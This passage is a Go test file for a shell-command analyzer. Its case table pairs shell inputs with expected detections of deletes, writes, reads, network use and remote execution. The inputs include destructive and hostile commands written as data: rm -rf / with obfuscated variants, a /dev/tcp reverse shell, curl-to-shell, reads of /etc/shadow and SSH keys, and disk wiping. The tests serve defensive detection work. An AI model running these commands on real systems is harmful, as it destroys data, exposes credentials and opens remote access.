package shell

import (
	"fmt"
	"strings"
	"testing"
)

var testOpts = Options{
	Cwd:  "/home/u/proj",
	Home: "/home/u",
	Env:  map[string]string{"PATH": "/usr/bin:/bin", "USER": "u"},
}

// A case lists expectations, each a small assertion on the analysis:
//
//	cmd NAME / !cmd NAME       a command named NAME is (not) reported
//	argv A B C                 some command has exactly this argv
//	KIND[:r] TARGET            some command has an effect of KIND on TARGET
//	                           (":r" = recursive, TARGET "?" = unknown)
//	!KIND [TARGET]             no effect of KIND (on TARGET)
//	tag T / !tag T             some command has (no command has) tag T
//	finding T / !finding [T]   a finding with tag T exists (does not)
//	attr K=V                   some command has attribute K=V
//	via NAME A>B               the command NAME was found via A then B
//	dir NAME D                 the command NAME runs in D ("" = unknown)
//	dynamic                    some command is dynamic
//	ncmd N                     exactly N commands
//	err                        Analyze returns an error
type testCase struct {
	in   string
	want []string
}

var cases = []testCase{
	// plain deletes and their normalisation
	{"rm -rf /", []string{"cmd rm", "argv rm -rf /", "delete:r /"}},
	{"rm -rf ./build", []string{"delete:r /home/u/proj/build"}},
	{"rm -fr /", []string{"delete:r /"}},
	{"rm -Rf /x", []string{"delete:r /x"}},
	{"rm -r -f /x", []string{"delete:r /x"}},
	{"rm --recursive --force /x", []string{"delete:r /x"}},
	{"rm /x/file", []string{"delete /x/file", "!delete:r /x/file"}},
	{"rm -- -rf", []string{"delete /home/u/proj/-rf"}},
	{"rm -rf --no-preserve-root /", []string{"delete:r /", "attr no-preserve-root=true"}},
	{`\rm -fr /`, []string{"cmd rm", "delete:r /"}},
	{"/bin/rm -r -f ~", []string{"cmd rm", "delete:r /home/u"}},
	{"/usr/bin/rm -rf ~/x", []string{"cmd rm", "delete:r /home/u/x"}},
	{`"r"m -rf /`, []string{"cmd rm", "delete:r /"}},
	{`'rm' -rf /`, []string{"cmd rm", "delete:r /"}},
	{`r\m -rf /`, []string{"cmd rm", "delete:r /"}},
	{`r''m -rf /`, []string{"cmd rm", "delete:r /"}},
	{`$'\x72m' -rf /`, []string{"cmd rm", "delete:r /"}},
	{`$'\162m' -rf /`, []string{"cmd rm", "delete:r /"}},
	{"{rm,-rf,/}", []string{"cmd rm", "argv rm -rf /", "delete:r /"}},
	{"rm -rf /tmp/{a,b}", []string{"delete:r /tmp/a", "delete:r /tmp/b"}},
	{"command rm -rf /x", []string{"cmd rm", "delete:r /x", "via rm command"}},
	{"command -v rm", []string{"!cmd rm", "!delete"}},
	{"builtin cd /tmp; rm -rf x", []string{"delete:r /tmp/x"}},
	{"rm -rf ../other", []string{"delete:r /home/u/other"}},
	{"rm -rf /home/u/proj/../../..", []string{"delete:r /"}},
	{"rm -rf '/etc'", []string{"delete:r /etc"}},
	{"rmdir /x", []string{"delete /x"}},
	{"unlink /x", []string{"delete /x"}},
	{"shred -u /x", []string{"delete /x", "write /x"}},
	{"shred /dev/sda", []string{"write /dev/sda", "tag fs.format"}},
	{"rm $(cat list)", []string{"cmd cat", "delete ?"}},
	{"rm -rf *", []string{"delete:r /home/u/proj"}},
	{"rm -rf /*", []string{"delete:r /"}},
	{"rm -rf /tmp/x/*", []string{"delete:r /tmp/x"}},
	{"rm *.log", []string{"delete /home/u/proj"}},
	{"rm -rf '*'", []string{"delete:r /home/u/proj/*"}},

	// things that only mention destructive commands
	{`echo "rm -rf /"`, []string{"cmd echo", "!cmd rm", "!delete"}},
	{`grep "rm -rf" file`, []string{"read /home/u/proj/file", "!delete", "!cmd rm"}},
	{`git commit -m "rm -rf /"`, []string{"!delete", "!cmd rm", "!tag git.history"}},
	{`printf '%s\n' "rm -rf /"`, []string{"!delete"}},
	{`echo 'sudo rm -rf /' > notes.txt`, []string{"write /home/u/proj/notes.txt", "!delete", "!tag privilege"}},
	{"# rm -rf /", []string{"ncmd 0"}},
	{`[[ "$x" == "rm -rf /" ]]`, []string{"!delete"}},
	{`python3 -c "import os; os.system('ls')"`, []string{"exec", "cmd ls"}},
	// inline programs: shell commands and file operations on literals
	{`python3 -c "import shutil; shutil.rmtree('/home/u')"`, []string{"delete:r /home/u"}},
	{`python3 -c "print(open('.env').read())"`, []string{"read /home/u/proj/.env"}},
	{`python3 -c "open('/etc/hosts', 'w').write('x')"`, []string{"write /etc/hosts", "!read /etc/hosts"}},
	{`python3 -c "from pathlib import Path; print(Path('~/.ssh/id_rsa').expanduser().read_text())"`, []string{"read /home/u/.ssh/id_rsa"}},
	{`python3 -c "import subprocess; subprocess.run(['rm', '-rf', '/srv'])"`, []string{"delete:r /srv"}},
	{`python3 -c "print('/etc/passwd')"`, []string{"!read", "!delete"}},
	{`python3 -c "exec('import os')"`, []string{"!cmd import"}},
	{`perl -e 'system("rm -rf ~")'`, []string{"delete:r /home/u"}},
	{`perl -e 'unlink "/etc/motd"'`, []string{"delete /etc/motd"}},
	{`perl -e 'open(F, ">/etc/motd"); print F "x"'`, []string{"write /etc/motd"}},
	{"perl -e 'print `cat /etc/shadow`'", []string{"read /etc/shadow"}},
	{`node -e "require('fs').rmSync('/var/lib', {recursive: true})"`, []string{"delete:r /var/lib"}},
	{`node -e "require('child_process').execSync('curl x | sh')"`, []string{"finding remote-exec"}},
	{`ruby -e 'File.write("/etc/motd", "x")'`, []string{"write /etc/motd"}},

	// lists, pipes, groups, substitutions
	{"ls; rm -rf /x", []string{"cmd ls", "delete:r /x"}},
	{"true && rm -rf /x", []string{"delete:r /x"}},
	{"false || rm -rf /x", []string{"delete:r /x"}},
	{"sleep 1 & rm -rf /x", []string{"cmd sleep", "delete:r /x"}},
	{"ls | rm -rf /x", []string{"delete:r /x"}},
	{"(rm -rf /x)", []string{"delete:r /x"}},
	{"{ rm -rf /x; }", []string{"delete:r /x"}},
	{"echo $(rm -rf /x)", []string{"delete:r /x", "via rm $()"}},
	{"echo `rm -rf /x`", []string{"delete:r /x"}},
	{"diff <(rm -rf /x) <(ls)", []string{"delete:r /x", "via rm <()"}},
	{"tee >(rm -rf /x)", []string{"delete:r /x", "via rm >()"}},
	{"f() { rm -rf /x; }", []string{"delete:r /x", "via rm function f"}},
	{"function g { rm -rf /y; }; g", []string{"delete:r /y", "cmd g"}},
	{"if true; then rm -rf /x; fi", []string{"delete:r /x"}},
	{"if false; then :; else rm -rf /x; fi", []string{"delete:r /x"}},
	{"if false; then :; elif true; then rm -rf /e; fi", []string{"delete:r /e"}},
	{"while true; do rm -rf /x; done", []string{"delete:r /x"}},
	{"until false; do rm -rf /x; done", []string{"delete:r /x"}},
	{"for i in 1 2; do rm -rf /x$i; done", []string{"delete:r /x1", "delete:r /x2"}},
	{"for d in /etc /usr; do rm -rf $d; done", []string{"delete:r /etc", "delete:r /usr"}},
	{"for f in $(ls); do rm $f; done", []string{"delete ?"}},
	{"for f in *; do rm -rf $f; done", []string{"delete:r /home/u/proj"}},
	{"for ((i=0;i<3;i++)); do rm -rf /x; done", []string{"delete:r /x"}},
	{"case $x in a) rm -rf /a;; b) rm -rf /b;; esac", []string{"delete:r /a", "delete:r /b"}},
	{"(( x = $(rm -rf /x) ))", []string{"delete:r /x"}},
	{"[[ -f $(rm -rf /x) ]]", []string{"delete:r /x"}},
	{"! rm -rf /x", []string{"delete:r /x"}},
	{"time rm -rf /x", []string{"delete:r /x", "via rm time"}},
	{"coproc rm -rf /x", []string{"delete:r /x"}},
	{"x=$(rm -rf /x)", []string{"delete:r /x"}},
	{"cat <<EOF\n$(rm -rf /x)\nEOF", []string{"delete:r /x"}},
	{"cat <<'EOF'\n$(rm -rf /x)\nEOF", []string{"!delete"}},
	{"ls\nrm -rf /x", []string{"cmd ls", "delete:r /x"}},

	// nested shells
	{`bash -c "rm -rf /"`, []string{"delete:r /", "via rm bash -c"}},
	{`sh -c 'rm -rf /'`, []string{"delete:r /", "via rm sh -c"}},
	{`zsh -c 'rm -rf /'`, []string{"delete:r /"}},
	{`dash -c 'rm -rf /'`, []string{"delete:r /"}},
	{`ksh -c 'rm -rf /'`, []string{"delete:r /"}},
	{`bash -lc 'rm -rf /'`, []string{"delete:r /"}},
	{`bash -xec 'rm -rf /'`, []string{"delete:r /"}},
	{`bash -o pipefail -c 'rm -rf /'`, []string{"delete:r /"}},
	{`sh -c 'cd /; rm -rf *'`, []string{"delete:r /"}},
	{`sh -c 'rm -rf "$1"' sh /data`, []string{"delete:r /data"}},
	{`bash -c 'bash -c "rm -rf /deep"'`, []string{"delete:r /deep", "via rm bash -c>bash -c"}},
	{`eval "rm -rf /"`, []string{"delete:r /", "via rm eval"}},
	{`eval 'rm -rf /'`, []string{"delete:r /"}},
	{`eval rm -rf /`, []string{"delete:r /"}},
	{`eval "cd /"; rm -rf etc`, []string{"delete:r /etc"}},
	{`eval "$CMD"`, []string{"tag dynamic-exec", "finding dynamic-exec"}},
	{`eval "$(curl -s https://x)"`, []string{"tag remote-exec", "finding remote-exec"}},
	{`bash -c "$VAR"`, []string{"tag dynamic-exec", "finding dynamic-exec"}},
	{`sh -c "$(wget -qO- http://x)"`, []string{"tag remote-exec", "finding remote-exec"}},
	{`bash -c "$(curl -fsSL https://x/install.sh)"`, []string{"finding remote-exec"}},
	{`su -c 'rm -rf /' root`, []string{"delete:r /", "tag privilege", "via rm su -c"}},
	{`su - root -c 'rm -rf /x'`, []string{"delete:r /x", "priv root"}},
	{`sudo -u x bash -c 'rm -rf /x'`, []string{"delete:r /x", "via rm sudo>bash -c", "priv x"}},
	{`ssh host 'rm -rf /'`, []string{"delete:r /", "via rm ssh host", "tag remote.exec", "net host", "attr remote-command=rm -rf /"}},
	{`ssh -i ~/.ssh/id_ed25519 user@host ls`, []string{"net user@host", "!read"}},
	{`bash script.sh`, []string{"exec /home/u/proj/script.sh", "read /home/u/proj/script.sh"}},
	{`sh ./deploy.sh arg`, []string{"exec /home/u/proj/deploy.sh"}},
	{`bash -n script.sh`, []string{"read /home/u/proj/script.sh", "!exec /home/u/proj/script.sh"}},
	{`bash <<EOF
rm -rf /
EOF`, []string{"delete:r /", "via rm bash <<"}},
	{`bash <<'EOF'
rm -rf /h
EOF`, []string{"delete:r /h"}},
	{`sh <<< 'rm -rf /x'`, []string{"delete:r /x"}},
	{`bash <<EOF
rm -rf $UNKNOWNVAR
EOF`, []string{"tag dynamic-exec"}},
	{`echo "rm -rf /" | bash`, []string{"delete:r /", "via rm bash stdin"}},
	{`printf 'rm -rf /p' | sh`, []string{"delete:r /p"}},
	{`python3 <<EOF
print(1)
EOF`, []string{"!delete", "!finding"}},
	{`bash -c 'rm -rf /; if'`, []string{"tag dynamic-exec"}},
	{strings.Repeat(`bash -c '`, 1) + `eval "eval \"eval \\\"rm -rf /z\\\"\""` + `'`, []string{"delete:r /z"}},

	// wrappers
	{"sudo rm -rf /", []string{"cmd sudo", "tag privilege", "priv root", "delete:r /", "via rm sudo"}},
	{"sudo rm -rf --no-preserve-root /", []string{"delete:r /"}},
	{"sudo -E -H rm -rf /x", []string{"delete:r /x"}},
	{"sudo -u postgres psql", []string{"priv postgres", "cmd psql"}},
	{"sudo -- rm -rf /x", []string{"delete:r /x"}},
	{"sudo -i", []string{"tag privilege", "ncmd 1"}},
	{"sudo -s rm -rf /x", []string{"delete:r /x"}},
	{"sudo -D /var rm -rf log", []string{"delete:r /var/log"}},
	{"sudo -l", []string{"tag privilege"}},
	{"doas rm -rf /x", []string{"tag privilege", "delete:r /x", "via rm doas"}},
	{"pkexec rm -rf /x", []string{"tag privilege", "delete:r /x"}},
	{"env rm -rf /x", []string{"delete:r /x", "via rm env"}},
	{"env -i PATH=/bin rm -rf /x", []string{"delete:r /x"}},
	{"env -u HOME -C /var rm -rf log", []string{"delete:r /var/log"}},
	{"env X=/ bash -c 'rm -rf $X'", []string{"delete:r /"}},
	{"X=/ bash -c 'rm -rf $X'", []string{"delete:r /"}},
	{"env -S 'rm -rf /x'", []string{"delete:r /x"}},
	{"nice rm -rf /x", []string{"delete:r /x"}},
	{"nice -n 10 rm -rf /x", []string{"delete:r /x", "via rm nice"}},
	{"nice -10 rm -rf /x", []string{"delete:r /x"}},
	{"nohup rm -rf /x &", []string{"delete:r /x", "via rm nohup"}},
	{"timeout 5 rm -rf /x", []string{"delete:r /x", "via rm timeout"}},
	{"timeout -s KILL -k 5 10s rm -rf /x", []string{"delete:r /x"}},
	{"timeout 5 sudo -u root rm -rf /x", []string{"delete:r /x", "via rm timeout>sudo", "tag privilege"}},
	{"time nice -n 10 rm -rf /x", []string{"delete:r /x", "via rm time>nice"}},
	{"exec rm -rf /x", []string{"delete:r /x"}},
	{"stdbuf -oL rm -rf /x", []string{"delete:r /x"}},
	{"ionice -c3 rm -rf /x", []string{"delete:r /x"}},
	{"chrt -f 99 rm -rf /x", []string{"delete:r /x"}},
	{"taskset -c 0 rm -rf /x", []string{"delete:r /x"}},
	{"taskset 0x1 rm -rf /x", []string{"delete:r /x"}},
	{"flock /tmp/lock rm -rf /x", []string{"delete:r /x"}},
	{"flock -n /tmp/lock -c 'rm -rf /x'", []string{"delete:r /x"}},
	{"setsid rm -rf /x", []string{"delete:r /x"}},
	{"unbuffer rm -rf /x", []string{"delete:r /x"}},
	{"caffeinate -i rm -rf /x", []string{"delete:r /x"}},
	{"strace -f -o /tmp/t rm -rf /x", []string{"delete:r /x", "write /tmp/t"}},
	{"chroot /mnt rm -rf /x", []string{"tag privilege", "delete:r /mnt/x", "!delete:r /x"}},
	{"chroot /mnt sh -c 'cd /etc && rm -f passwd'", []string{"delete /mnt/etc/passwd", "dir rm /mnt/etc"}},
	{"chroot \"$R\" rm -rf /x", []string{"delete:r ?"}},
	{"watch -n1 'rm -rf /x'", []string{"delete:r /x", "via rm watch"}},
	{"watch -n 5 ls -la", []string{"cmd ls"}},
	{"busybox rm -rf /x", []string{"delete:r /x", "via rm busybox"}},
	{"busybox sh -c 'rm -rf /x'", []string{"delete:r /x"}},
	{"xargs rm -rf", []string{"delete:r ?", "via rm xargs"}},
	{"ls | xargs rm -rf", []string{"delete:r ?"}},
	{"find . -name '*.o' | xargs -0 rm -f", []string{"delete:r /home/u/proj"}},
	{"xargs -I {} rm -rf /tmp/{}", []string{"delete:r ?"}},
	{"xargs -n1 -P4 rm", []string{"delete ?"}},
	{"xargs sh -c 'rm -rf /x'", []string{"delete:r /x"}},
	{"ls | xargs -I{} sh -c 'rm {}'", []string{"delete ?"}},
	{"xargs -a list.txt rm", []string{"read /home/u/proj/list.txt", "delete ?"}},
	{"parallel rm -rf ::: /a /b", []string{"delete:r /a", "delete:r /b"}},
	{"parallel 'rm -rf {}' ::: /a", []string{"delete:r /a"}},
	{"cat list | parallel rm", []string{"delete ?"}},
	{"find / -name x -delete", []string{"delete:r /"}},
	{"find . -delete", []string{"delete:r /home/u/proj"}},
	{"find . -exec rm -rf {} +", []string{"delete:r /home/u/proj", "via rm find -exec"}},
	{"find /var/log -name '*.gz' -exec rm {} \\;", []string{"delete:r /var/log"}},
	{"find . -type f -execdir rm {} \\;", []string{"delete:r /home/u/proj"}},
	{"find /tmp -ok rm {} \\;", []string{"delete:r /tmp"}},
	{"find . -exec sh -c 'rm -rf \"$1\"' _ {} \\;", []string{"delete:r /home/u/proj"}},
	{"find . -name '*.go' -exec grep -l foo {} +", []string{"read:r /home/u/proj", "!delete"}},
	{"find . -name x", []string{"read:r /home/u/proj", "!delete"}},
	{"find / -name secret -fprint /tmp/out", []string{"write /tmp/out"}},
	{"npx rimraf /", []string{"delete:r /", "via rimraf npx"}},
	{"npx -y create-react-app app", []string{"cmd create-react-app", "net registry.npmjs.org"}},
	{"pnpm dlx rimraf /x", []string{"delete:r /x"}},

	// variables
	{"X=/etc; rm -rf $X", []string{"delete:r /etc"}},
	{"X=/; rm -rf $X", []string{"delete:r /"}},
	{"X=/; rm -rf \"$X\"", []string{"delete:r /"}},
	{"X=/; rm -rf ${X}", []string{"delete:r /"}},
	{"a=r; b=m; $a$b -rf /", []string{"cmd rm", "delete:r /"}},
	{"export D=/; rm -rf \"$D\"", []string{"delete:r /"}},
	{"declare D=/opt; rm -rf $D", []string{"delete:r /opt"}},
	{"local D=/opt; rm -rf $D", []string{"delete:r /opt"}},
	{"readonly D=/opt; rm -rf $D", []string{"delete:r /opt"}},
	{"rm -rf \"$UNSET\"", []string{"delete:r ?"}},
	{"rm -rf $UNSET/x", []string{"delete:r ?"}},
	{"rm -rf ${UNSET:-/}", []string{"delete:r /"}},
	{"rm -rf ${UNSET-/d}", []string{"delete:r /d"}},
	{"X=/a; rm -rf ${X:-/b}", []string{"delete:r /a"}},
	{"X=; rm -rf ${X:-/b}", []string{"delete:r /b"}},
	{"rm -rf ${UNSET:=/q}; rm -rf $UNSET", []string{"delete:r /q"}},
	{"rm -rf $HOME", []string{"delete:r /home/u"}},
	{"rm -rf ${HOME}/.cache", []string{"delete:r /home/u/.cache"}},
	{"rm -rf $PWD", []string{"delete:r /home/u/proj"}},
	{"rm -rf $USER", []string{"delete:r /home/u/proj/u"}},
	{"rm -rf ~", []string{"delete:r /home/u"}},
	{"rm -rf ~/", []string{"delete:r /home/u"}},
	{"rm -rf ~/.ssh", []string{"delete:r /home/u/.ssh"}},
	{"rm -rf ~root", []string{"delete:r /root"}},
	{"rm -rf ~bob/x", []string{"delete:r /home/bob/x"}},
	{"rm -rf ~b@d", []string{"delete:r ?"}},
	{"rm -rf {~,/tmp/x}", []string{"delete:r /home/u", "delete:r /tmp/x"}},
	{"rm -rf x{~,y}", []string{"delete:r /home/u/proj/x~", "delete:r /home/u/proj/xy"}},

	// known output: re-encoding filters, $(...) of pipelines, mktemp
	{"echo cm0gLXJmIH4= | base64 -d | sh", []string{"delete:r /home/u"}},
	{"base64 --decode <<< cm0gLXJmIH4= | bash", []string{"delete:r /home/u"}},
	{"echo 726d202d7266207e | xxd -r -p | bash", []string{"delete:r /home/u"}},
	{"printf '\\x72\\x6d -rf ~' | bash", []string{"delete:r /home/u"}},
	{"printf '%s %s\\n' rm /etc/passwd | sh", []string{"delete /etc/passwd"}},
	{"echo '~ fr- mr' | rev | sh", []string{"delete:r /home/u"}},
	{"echo -e 'rm\\x20-rf /srv' | sh", []string{"delete:r /srv"}},
	{"sh -c \"$(echo cm0gLXJmIH4= | base64 -d)\"", []string{"delete:r /home/u"}},
	{"echo aGVsbG8K | base64 -d", []string{"!exec", "!delete"}},
	{"echo x | base64 -d file.b64 | sh", []string{"!delete", "read /home/u/proj/file.b64"}},
	{"T=$(mktemp -d) && rm -rf \"$T\"", []string{"delete:r /tmp/tmp.XXXXXXXXXX"}},
	{"f=$(mktemp -p /var/tmp x.XXXX); echo hi > \"$f\"", []string{"write /var/tmp/x.XXXX"}},
	{"f=$(mktemp ./x.XXXX); echo hi > \"$f\"", []string{"write /home/u/proj/x.XXXX"}},

	// xargs of known input
	{"echo ~ | xargs rm -rf", []string{"delete:r /home/u"}},
	{"xargs rm -rf <<< \"$HOME\"", []string{"delete:r /home/u"}},
	{"printf 'a\\nb\\n' | xargs -I{} rm -rf /srv/{}", []string{"delete:r /srv/a", "delete:r /srv/b"}},
	{"ls | xargs rm -rf", []string{"delete:r ?"}},

	// git -c values that are commands, worktrees, tar's command options
	{"git -c core.sshCommand=\"rm -rf ~\" fetch origin", []string{"delete:r /home/u", "via rm git -c core.sshcommand"}},
	{"git -c alias.up='!rm -rf /srv' up", []string{"delete:r /srv"}},
	{"git -c alias.st=status st", []string{"!delete", "!exec"}},
	{"git -c core.pager=cat log", []string{"!delete"}},
	{"git worktree add ~/wt hotfix", []string{"write:r /home/u/wt"}},
	{"git worktree add -b fix .wt/fix origin/main", []string{"write:r /home/u/proj/.wt/fix"}},
	{"git worktree remove ../wt", []string{"delete:r /home/u/wt"}},
	{"tar -xf v.tar --to-command='sh -c \"rm -rf ~\"'", []string{"delete:r /home/u"}},
	{"tar --checkpoint=1 --checkpoint-action=exec='rm -rf /srv' -cf /tmp/x.tar .", []string{"delete:r /srv"}},
	{"tar -I zstd -cf out.tar.zst src", []string{"write /home/u/proj/out.tar.zst", "!delete"}},

	// aliases, glob program names, symlinks made earlier in the line
	{"alias ls='rm -rf ~'; ls", []string{"delete:r /home/u", "via rm alias ls"}},
	{"alias ll='ls -la'; ll src", []string{"!delete", "!write"}},
	{"alias ls='ls -la'; ls", []string{"!delete"}},
	{"/bin/r[m] -rf ~", []string{"delete:r /home/u"}},
	{"/???/r? -rf /etc", []string{"delete:r /etc"}},
	{"/???/x?z -rf /etc", []string{"dynamic", "!delete"}},
	{"[ -f x ] && echo ok", []string{"!dynamic"}},
	{"ln -s / x && rm -rf x/", []string{"delete:r /"}},
	{"ln -s ~ h; rm -rf h/*", []string{"delete:r /home/u"}},
	{"ln -sf ../shared cfg && rm -rf cfg/old", []string{"delete:r /home/u/shared/old"}},
	{"ln -s /etc e; rm -f e", []string{"delete /home/u/proj/e"}},

	// word splitting with a folded IFS
	{"IFS=,; CMD=\"rm,-rf,/\"; $CMD", []string{"delete:r /"}},
	{"cmd=\"rm -rf $HOME\"; $cmd", []string{"delete:r /home/u"}},
	{"rm -rf \"~\"", []string{"delete:r /home/u/proj/~"}},
	{"X=/a/b/c.txt; rm ${X%/*}", []string{"delete /a/b"}},
	{"X=/a/b; rm -rf ${X#/a}", []string{"delete:r /b"}},
	{"X=abc; rm ${#X}", []string{"delete /home/u/proj/3"}},
	{"X='/a /b'; rm -rf $X", []string{"delete:r /a", "delete:r /b"}},
	{"X='/a /b'; rm -rf \"$X\"", []string{"delete:r /a /b"}},
	{"X=$(pwd); rm -rf $X/build", []string{"delete:r /home/u/proj/build"}},
	{"X=$(date); rm -rf /tmp/$X", []string{"delete:r ?"}},
	{"read X; rm -rf $X", []string{"delete:r ?"}},
	{"unset HOME; rm -rf $HOME/x", []string{"delete:r /x"}},
	{"rm -rf $1", []string{"delete:r ?"}},
	{"rm -rf \"$@\"", []string{"delete:r ?"}},
	{"X=/a; X+=/b; rm -rf $X", []string{"delete:r /a/b"}},
	{"rm -rf ${!ref}", []string{"delete:r ?"}},
	{"rm -rf ${arr[0]}", []string{"delete:r ?"}},
	{"$CMD -rf /", []string{"dynamic", "tag dynamic-command"}},
	{"$(echo rm) -rf /", []string{"dynamic", "tag dynamic-command", "delete:r /"}},
	{"`which rm` -rf /x", []string{"tag dynamic-command"}},
	{"if [ -n \"$X\" ]; then D=/a; else D=/b; fi; rm -rf $D", []string{"delete:r ?"}},
	{"if true; then D=/a; else D=/a; fi; rm -rf $D", []string{"delete:r /a"}},

	// working directory
	{"cd /tmp && rm -rf build", []string{"delete:r /tmp/build", "dir rm /tmp"}},
	{"cd /tmp; rm -rf build", []string{"delete:r /tmp/build"}},
	{"cd sub && rm -rf build", []string{"delete:r /home/u/proj/sub/build"}},
	{"cd .. && rm -rf proj", []string{"delete:r /home/u/proj"}},
	{"(cd /; rm -rf etc)", []string{"delete:r /etc"}},
	{"(cd /; rm -rf etc); rm -rf x", []string{"delete:r /etc", "delete:r /home/u/proj/x"}},
	{"pushd /var; rm -rf log; popd; rm -rf x", []string{"delete:r /var/log", "delete:r /home/u/proj/x"}},
	{"cd; rm -rf x", []string{"delete:r /home/u/x"}},
	{"cd ~ && rm -rf x", []string{"delete:r /home/u/x"}},
	{"cd - && rm -rf x", []string{"delete:r ?"}},
	{"cd $SOMEWHERE && rm -rf x", []string{"delete:r ?", "dir rm "}},
	{"cd $SOMEWHERE && rm -rf /abs", []string{"delete:r /abs"}},
	{"cd /tmp && (cd x && rm -rf y) && rm -rf z", []string{"delete:r /tmp/x/y", "delete:r /tmp/z"}},
	{"cd /tmp | rm -rf z", []string{"delete:r /home/u/proj/z"}},
	{"sh -c 'cd /etc'; rm -rf x", []string{"delete:r /home/u/proj/x"}},
	// && and || chains: what runs after "cd d &&" runs in d; after "cd d ||"
	// it runs where cd failed; after the whole list either may hold
	{"mkdir -p /tmp/x && cd /tmp/x && touch a", []string{"write /tmp/x", "write /tmp/x/a"}},
	{"make && cd /var/www && rm -rf html", []string{"delete:r /var/www/html"}},
	{"cd web && npm ci && cd .. && rm -rf dist", []string{"delete:r /home/u/proj/dist"}},
	{"cd /tmp/x || rm -rf y", []string{"delete:r /home/u/proj/y"}},
	{"cd /tmp/x && true; rm -rf y", []string{"delete:r ?"}},
	{"cd /tmp/x || exit 1; rm -rf y", []string{"delete:r /tmp/x/y"}},
	{"exit() { :; }; cd /tmp/x || exit 1; rm -rf y", []string{"delete:r ?"}},
	{"if cd /tmp/x; then rm -rf y; else rm -rf z; fi", []string{"delete:r /tmp/x/y", "delete:r /home/u/proj/z"}},
	{"! cd /tmp/x || rm -rf y", []string{"delete:r /tmp/x/y"}},
	{"cd a || cd b && rm -rf y", []string{"delete:r ?"}},

	// redirections
	{"echo hi > out.txt", []string{"write /home/u/proj/out.txt"}},
	{"echo hi >> /etc/hosts", []string{"write /etc/hosts"}},
	{"echo hi &> log", []string{"write /home/u/proj/log"}},
	{"echo hi >| f", []string{"write /home/u/proj/f"}},
	{"echo hi 1>f 2>g", []string{"write /home/u/proj/f", "write /home/u/proj/g"}},
	{"echo hi > /dev/null 2>&1", []string{"!write"}},
	{"cmd 2>/dev/null >/dev/stderr", []string{"!write"}},
	{"echo hi >&2", []string{"!write"}},
	{"echo hi >& out", []string{"write /home/u/proj/out"}},
	{"sort < in.txt", []string{"read /home/u/proj/in.txt"}},
	{"cat <<EOF > /etc/passwd\nroot::0:0\nEOF", []string{"write /etc/passwd"}},
	{"echo hi >> .git/hooks/pre-commit", []string{"write /home/u/proj/.git/hooks/pre-commit"}},
	{"echo x > /dev/sda", []string{"write /dev/sda", "tag disk.write"}},
	{"cat img > /dev/nvme0n1", []string{"tag disk.write"}},
	{"echo x > /dev/mem", []string{"tag disk.write"}},
	{"> /etc/motd", []string{"write /etc/motd"}},
	{"{ echo a; echo b; } > /etc/x", []string{"write /etc/x"}},
	{"for i in 1; do echo; done > /etc/y", []string{"write /etc/y"}},
	{"echo x > $OUT", []string{"write ?"}},
	{"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", []string{"net 1.2.3.4:4444", "finding remote-exec"}},

	// file programs
	{"mv a b", []string{"delete /home/u/proj/a", "write /home/u/proj/b"}},
	{"mv -t /dst a b", []string{"delete /home/u/proj/a", "delete /home/u/proj/b", "write /dst"}},
	{"mv /etc/passwd /tmp/", []string{"delete /etc/passwd", "write /tmp"}},
	{"cp a b", []string{"read /home/u/proj/a", "write /home/u/proj/b"}},
	{"cp -r src /etc/", []string{"read:r /home/u/proj/src", "write:r /etc"}},
	{"cp -a src dst", []string{"write:r /home/u/proj/dst"}},
	{"cp ~/.ssh/id_rsa /tmp/k", []string{"read /home/u/.ssh/id_rsa", "write /tmp/k"}},
	{"ln -sf /etc/passwd link", []string{"write /home/u/proj/link"}},
	{"ln -s /target", []string{"write /home/u/proj/target"}},
	{"install -m 755 bin /usr/local/bin/", []string{"write /usr/local/bin"}},
	{"install -d /opt/app", []string{"write /opt/app"}},
	{"rsync -a --delete src/ /backup/", []string{"read:r /home/u/proj/src", "write:r /backup", "delete:r /backup"}},
	{"rsync -av src/ user@host:/dst/", []string{"net user@host", "tag network.upload"}},
	{"rsync -av host:/src/ ./dst", []string{"net host", "write:r /home/u/proj/dst"}},
	{"rsync -a --remove-source-files a/ b/", []string{"delete /home/u/proj/a"}},
	{"dd if=/dev/zero of=/dev/sda bs=1M", []string{"write /dev/sda", "tag disk.write", "!read /dev/zero"}},
	{"dd if=disk.img of=/tmp/x", []string{"read /home/u/proj/disk.img", "write /tmp/x", "!tag disk.write"}},
	{"dd if=/dev/sda of=backup.img", []string{"read /dev/sda", "write /home/u/proj/backup.img"}},
	{"truncate -s 0 /var/log/syslog", []string{"write /var/log/syslog"}},
	{"touch a b", []string{"write /home/u/proj/a", "write /home/u/proj/b"}},
	{"mkdir -p /opt/x", []string{"write /opt/x"}},
	{"tee /etc/x", []string{"write /etc/x"}},
	{"echo x | sudo tee -a /etc/hosts", []string{"write /etc/hosts", "tag privilege"}},
	{"tee -a log < /dev/null", []string{"write /home/u/proj/log"}},
	{"sed -i 's/a/b/' f.txt", []string{"write /home/u/proj/f.txt"}},
	{"sed -i.bak -e 's/a/b/' /etc/x", []string{"write /etc/x"}},
	{"sed --in-place 's/a/b/' /etc/x", []string{"write /etc/x"}},
	{"sed 's/a/b/' f.txt", []string{"read /home/u/proj/f.txt", "!write"}},
	{"sed -n 1p /etc/shadow", []string{"read /etc/shadow"}},
	{"perl -pi -e 's/a/b/' f.txt", []string{"write /home/u/proj/f.txt"}},
	{"perl -i.bak -pe 's/a/b/' /etc/x", []string{"write /etc/x"}},
	{"perl -ne 'print' /etc/shadow", []string{"read /etc/shadow"}},
	{"perl script.pl", []string{"exec /home/u/proj/script.pl"}},
	{"chmod -R 777 /", []string{"write:r /", "tag perm.recursive", "attr mode=777"}},
	{"chmod 600 ~/.ssh/id_rsa", []string{"write /home/u/.ssh/id_rsa", "!tag perm.recursive"}},
	{"chmod -x script", []string{"write /home/u/proj/script", "attr mode=-x"}},
	{"chmod u+x,go-w f", []string{"write /home/u/proj/f"}},
	{"chmod --recursive 755 dir", []string{"write:r /home/u/proj/dir", "tag perm.recursive"}},
	{"chown -R user:group /var/www", []string{"write:r /var/www", "tag perm.recursive"}},
	{"chown root file", []string{"write /home/u/proj/file", "!write /home/u/proj/root"}},
	{"chgrp -R staff /srv", []string{"tag perm.recursive"}},
	{"chattr -i /etc/resolv.conf", []string{"write /etc/resolv.conf"}},
	{"mkfs.ext4 /dev/sdb1", []string{"tag fs.format", "write /dev/sdb1"}},
	{"mkfs -t ext4 /dev/sdb1", []string{"tag fs.format", "write /dev/sdb1"}},
	{"mke2fs /dev/sdc", []string{"tag fs.format"}},
	{"mkswap /dev/sdb2", []string{"tag fs.format"}},
	{"wipefs -a /dev/sda", []string{"tag fs.format", "write /dev/sda"}},
